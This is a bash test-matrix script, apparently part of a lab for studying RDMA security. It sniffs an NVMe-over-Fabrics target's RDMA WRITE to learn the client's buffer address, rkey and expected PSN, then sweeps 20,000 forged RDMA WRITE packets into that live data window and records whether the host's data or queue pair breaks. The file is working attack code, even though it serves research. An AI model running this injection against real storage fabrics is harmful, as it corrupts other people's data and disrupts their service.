# SPDX-License-Identifier: MIT
# pool-write (issue 38): forged RDMA WRITEs into the data window of a live
# storage queue. A target's own RDMA WRITEs (a READ's data on its way to the
# client) carry the client's window in clear: the RETH's address and rkey.
# The attacker on host 3 reads one off the bridge, the PSN the client's
# queue pair expects from rdma(8), and sweeps 20000 forged RDMA WRITE Only
# packets into that window from it, as if from the target. rxe accepts the
# one at the expected PSN if the key is still live (and every later one,
# which then rides the PSN: the target's real packets become duplicates it
# drops), and fails the client's queue pair if it is not.
# Storage victims only: nvmf here (the host's READ buffers, registered per
# command), rdmasec-blk in rdmasec-blk.bash (the queue's pool).
. "$(dirname "${BASH_SOURCE[0]}")/common.bash"
. "$(dirname "${BASH_SOURCE[0]}")/nvmf.bash"

CELL_POOL_TEXT=FORGED-INTO-THE-DATA-WINDOW

# cell_pool_window SRC DST: one RDMA WRITE First or Only from SRC to DST off
# the bridge (10 s at most). Sets POOL_QPN (0x-hex, DST's receiving QP),
# POOL_VA and POOL_RKEY (0x-hex, its RETH); returns 1 if none was seen.
cell_pool_window() {
	local hex
	timeout 10 tcpdump -i fabbr -nn -x -c 1 \
		"udp dst port 4791 and src host $1 and dst host $2 and (udp[8] == 6 or udp[8] == 10)" \
		>"$CELL/window.txt" 2>>"$CELL/tcpdump.err" || return 1
	hex=$(awk '/^[[:space:]]*0x[0-9a-f]+:/ { for (i = 2; i <= NF; i++) printf "%s", $i }' "$CELL/window.txt")
	# IPv4 20 + UDP 8 bytes, BTH 12 (destination QP at 5), RETH 16 (va 8, rkey 4, length 4).
	[ ${#hex} -ge 112 ] || return 1
	POOL_QPN=0x${hex:66:6} POOL_VA=0x${hex:80:16} POOL_RKEY=0x${hex:96:8}
}

# cell_pool_psn DEV: the PSN DEV's queue pair POOL_QPN expects now (decimal); returns 1 if it is gone.
cell_pool_psn() {
	local p
	p=$(rdma -d res show qp link "$1/1" lqpn $((POOL_QPN)) 2>/dev/null |
		awk '{ for (i = 1; i < NF; i++) if ($i == "rq-psn") print $(i + 1) }')
	[ -n "$p" ] && echo "$p"
}

# cell_pool_sweep SRC DST PSN: the forger from host 3, in the background (its pid in POOL_PID).
cell_pool_sweep() {
	timeout 30 fabric on 3 "$ATK" inject --op write --rkey "$POOL_RKEY" --va "$POOL_VA" --dst "$2" --src "$1" \
		--qpn "$POOL_QPN" --psn-sweep "$3:20000" --iface fab3 --sport 4242 --data "$CELL_POOL_TEXT" \
		--json >"$CELL/attack.json" 2>>"$CELL/attack.err" &
	POOL_PID=$!
}

# _pool_nvmf_hit T0: what the host showed of the attack since uptime T0: fio
# read wrong data, the host's kernel line, or its queue pair in ERR; prints
# it, returns 1 if nothing yet.
_pool_nvmf_hit() {
	local l
	l=$(victim_grep "$VICTIM_CLIENT_LOG" 'verify:|verify failed|bad magic') && { printf 'fio: %s' "${l:0:70}"; return 0; }
	l=$(cell_nvmf_host_line "$1" 'failed with status|command_id|could not locate|genctr|error recovery|Reconnecting') &&
		{ sed 's/nvme nvme[0-9]*: //' <<<"${l:0:90}" | tr -d '\n'; return 0; }
	rdma -d res show qp link rxe2/1 lqpn $((POOL_QPN)) 2>/dev/null | grep -q ' state ERR ' &&
		printf '[rdma res] rxe2 QP %s state ERR' "$POOL_QPN"
}

# nvmf: the host's READ buffer of one command (an FRWR key that lives for
# that command), its address and key off the wire; the sweep goes to the
# host's I/O queue QP. Whatever the host makes of it is the outcome.
_pool_nvmf() {
	local t0 p r hit='' fio back
	# A silenced queue is found when an I/O times out: 10 s, not the kernel's 30 (the cell waits for it).
	NVMF_IO_TIMEOUT=10
	cell_nvmf_start pool-write || return
	for r in 1 2 3; do
		cell_pool_window "$VICTIM_SERVER_IP" "$VICTIM_CLIENT_IP" && p=$(cell_pool_psn rxe2) || continue
		read -r t0 _ </proc/uptime
		cell_pool_sweep "$VICTIM_SERVER_IP" "$VICTIM_CLIENT_IP" "$p"
		# The host notices a broken QP at once, a silenced one when the I/O timeout runs out.
		for _ in $(seq 1 60); do hit=$(_pool_nvmf_hit "$t0") && break; sleep 0.5; done
		kill "$POOL_PID" 2>/dev/null
		wait "$POOL_PID"
		echo "round $r: inject --op write exit $? (rxe2 qpn $POOL_QPN psn $p, va $POOL_VA rkey $POOL_RKEY) at $SECONDS s" >&2
		[ -n "$hit" ] && break
	done
	[ -n "$hit" ] && cell_nvmf_recovery 30
	victim_attack_done
	fio=$(victim_grep "$VICTIM_CLIENT_LOG" 'verify:|verify failed|bad magic|err= *[1-9]') || fio='no verify error, no I/O error'
	back=$(nvmf_host_log 'Successfully reconnected|Removing ctrl|Failed reconnect' | head -n 1 | sed 's/^\[ *[0-9.]*\] nvme nvme[0-9]*: //')
	victim_stop
	if [ -z "${POOL_QPN:-}" ]; then
		matrix_result pool-write nvmf error "" "no RDMA WRITE from the target to the host seen in 3 tries"
	elif [ -n "$hit" ]; then
		matrix_result pool-write nvmf succeeded "" \
			"$hit${back:+; then ${back:0:40}}; WRITEs at h2 QP $POOL_QPN rkey $POOL_RKEY (try $r); fio: ${fio:0:50}"
	else
		matrix_result pool-write nvmf error "" \
			"missed: 3 sweeps into h2's window (last QP $POOL_QPN, rkey $POOL_RKEY): the host logged nothing; fio: ${fio:0:50}"
	fi
}

cell_pool_write() {
	if [ "$1" = nvmf ]; then
		_pool_nvmf
		return
	fi
	matrix_result pool-write "$1" not-applicable "not a storage victim: no storage queue whose data window to write into" \
		"$1 runs no storage queue; the row forges WRITEs into a live storage queue's data window (nvmf, rdmasec-blk)"
}
